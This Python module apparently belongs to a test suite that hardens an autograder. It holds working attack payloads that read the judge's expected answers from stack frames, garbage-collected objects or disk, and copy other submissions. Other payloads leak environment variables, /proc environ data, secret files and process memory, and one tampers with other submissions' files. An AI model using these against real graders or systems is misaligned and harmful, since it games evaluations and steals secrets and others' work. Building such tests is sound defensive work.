"""Attacks that read: the answer, the judge's objects, secrets, other submissions, hidden inputs."""

from .scene import FILE, LEAK, POINTS, call, cell

# What most of these do with what they found: say it wherever a report might quote it.
TELL = """
import base64
import sys
import warnings

def tell(found):
    text = repr(found)
    for form in (text, base64.b64encode(text.encode()).decode(), text.encode().hex(), text[::-1]):
        print(form)
        print(form, file=sys.stderr)
    kind = type("E" + text.encode().hex()[:4000], (Exception,), {"__doc__": text})
    raise kind(text)
"""

EXPECTED_OF_FRAMES = """
import sys
frame = sys._getframe(1)
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if callable(getattr(value, "expected", None)) and getattr(value, "name", "") == "$question":
            return value.expected(*arguments)
    frame = frame.f_back
"""

EXPECTED_OF_GC = """
import gc
for value in gc.get_objects():
    try:
        if type(value).__name__ == "Question" and value.name == "$question":
            return value.expected(*arguments)
    except Exception:
        pass
"""

IMPORTED = """
from rlhw import exercises
return exercises.question("$question").expected(*arguments)
"""

INSTALLED = """
import importlib, importlib.metadata, pathlib, sys
stem = "$question".replace("-", "_")
for file in importlib.metadata.files("rlhw") or []:
    path = pathlib.Path(file.locate())
    if path.suffix == ".pth":
        sys.path += path.read_text().split()
module = importlib.import_module("rlhw.exercises." + stem)
return module.QUESTION.expected(*arguments)
"""

SEARCHED = """
import os, sys
stem = "$question".replace("-", "_")
roots = [p for p in sys.path if p] + [os.path.dirname(os.__file__), "/work", "/srv", "/opt", "/home", "/root", "/mnt", "/usr"]
for root in roots:
    for folder, folders, files in os.walk(root):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "torch", "node_modules", "share", "include")]
        if stem + ".py" in files:
            space = {}
            source = open(os.path.join(folder, stem + ".py")).read()
            source = source.replace("from rlhw.exercises.question import", "from rlhw_question import")
            if "rlhw_question" not in sys.modules:
                import types
                fake = types.ModuleType("rlhw_question")
                fake.__getattr__ = lambda name: (lambda *a, **k: None)
                sys.modules["rlhw_question"] = fake
            exec(source, space)
            return space["expected"](*arguments)
"""

NEIGHBOUR = """
import json
import pathlib

for path in [pathlib.Path(r"$victim"), *pathlib.Path("..").glob("*/*.ipynb"), *pathlib.Path(r"$submissions").glob("*/*.ipynb")]:
    try:
        for found in json.loads(path.read_text())["cells"]:
            if found["metadata"].get("rlhw", {}).get("answer") == "$question" and "$slug" not in str(path):
                exec("import numpy as np\\n" + "".join(found["source"]), globals())
                raise StopIteration
    except StopIteration:
        break
    except (OSError, ValueError, KeyError):
        pass
"""

ENVIRONMENT = (
    TELL
    + """
import os
import subprocess

found = [os.environ.get("$variable"), dict(os.environ)]
try:
    found.append(subprocess.run(["env"], capture_output=True).stdout)
except OSError:
    pass
tell(found)
"""
)

PROCESSES = (
    TELL
    + """
import pathlib

found = []
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        found += [part for part in path.read_bytes().split(b"\\0") if b"$variable" in part or b"SESSION" in part]
    except OSError:
        pass
tell(found)
"""
)

SESSION = (
    TELL
    + """
import itertools
import json
import os
import pathlib

found = []
places = [os.environ.get("RLHW_GRADING_SESSION", ""), r"$secret", r"$submissions", r"$outside", "/tmp", "/run", "/dev/shm", ".."]
for place in filter(None, places):
    path = pathlib.Path(place)
    try:
        files = [path] if path.is_file() else [p for p in itertools.islice(path.rglob("*"), 300) if p.is_file()]
    except OSError:
        continue
    for file in files:
        try:
            text = file.read_bytes()[:200000]
        except OSError:
            continue
        if str(file) == r"$secret" or b"seeds" in text:
            found.append((str(file), text[:4000]))
            try:
                with open(file, "a") as records:
                    records.write("")
            except OSError:
                pass
tell(found)
"""
)

VICTIM = (
    TELL
    + """
import pathlib

found = []
for path in [pathlib.Path(r"$victim"), *pathlib.Path("..").glob("*/*.ipynb")]:
    try:
        found.append(path.read_text())
    except OSError:
        pass
tell(found)
"""
)

REWRITE = """
import pathlib
for path in [r"$folder/$stem.ipynb", r"$victim", r"$mark"]:
    try:
        with open(path, "a") as file:
            file.write(" ")
    except OSError:
        pass
return None
"""

# The grader that one shares a process with can be read in memory: the sentence of the environment stands there.
MEMORY_READ = (
    TELL
    + """
import re

found = []
try:
    maps = open("/proc/self/maps").read().splitlines()
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            if "rw-p" in line and ("[stack]" in line or "[heap]" in line):
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                memory.seek(low)
                found += re.findall(rb"$variable=[ -~]{0,80}", memory.read(high - low))
except OSError:
    pass
tell(found)
"""
)

NUMBERS = """
import numpy as np

def numbers(arguments):
    return repr([float(x) for a in arguments for x in np.ravel(a)])

"""

READING = (
    call("answer-in-frames", "the judge's question is found in a caller's frame and asked", POINTS, EXPECTED_OF_FRAMES),
    call("answer-by-gc", "the judge's question is found among all objects and asked", POINTS, EXPECTED_OF_GC),
    call("answer-imported", "the answer is imported from rlhw", POINTS, IMPORTED),
    call("answer-installed", "the answer is imported from where rlhw's installation says", POINTS, INSTALLED),
    call("answer-searched", "the source of the answer is searched for on the disk and executed", POINTS, SEARCHED),
    cell("answer-of-another", "another submission is read and its answer executed", POINTS, NEIGHBOUR),
    cell("read-environment", "environment variables are told by print, stderr and exception", LEAK, ENVIRONMENT),
    cell("read-processes", "the environments of all processes are told", LEAK, PROCESSES),
    cell("read-files", "secret file, session files and all in reach are told", LEAK, SESSION),
    cell("read-submissions", "the other submissions are told", LEAK, VICTIM),
    cell("read-memory", "the memory of the process is told", LEAK, MEMORY_READ),
    call("rewrite-submissions", "own and other submissions are written to", FILE, REWRITE),
    call("inputs-in-exception", "an exception quotes the inputs", LEAK, "raise ValueError(numbers(arguments))", NUMBERS),
    call("inputs-printed", "the inputs are printed and returned", LEAK, """
        print(numbers(arguments))
        print(numbers(arguments)[::-1], numbers(arguments).encode().hex())
        return numbers(arguments)
    """, NUMBERS),
    call("inputs-in-type-name", "the name of an exception's type, the last word of a report, holds the inputs", LEAK, """
        text = numbers(arguments)
        raise type(text, (BaseException,), {"__module__": text, "__str__": lambda self: text, "__qualname__": text})(text)
    """, NUMBERS),
    call("inputs-at-exit", "sys.exit says the inputs", LEAK, "raise SystemExit(numbers(arguments))", NUMBERS),
    call("inputs-warned", "the inputs are warned of, logged and written to stderr", LEAK, """
        import logging, sys, warnings
        warnings.warn(numbers(arguments))
        logging.error(numbers(arguments))
        sys.stderr.write(numbers(arguments))
        raise KeyboardInterrupt(numbers(arguments))
    """, NUMBERS),
)  # fmt: skip
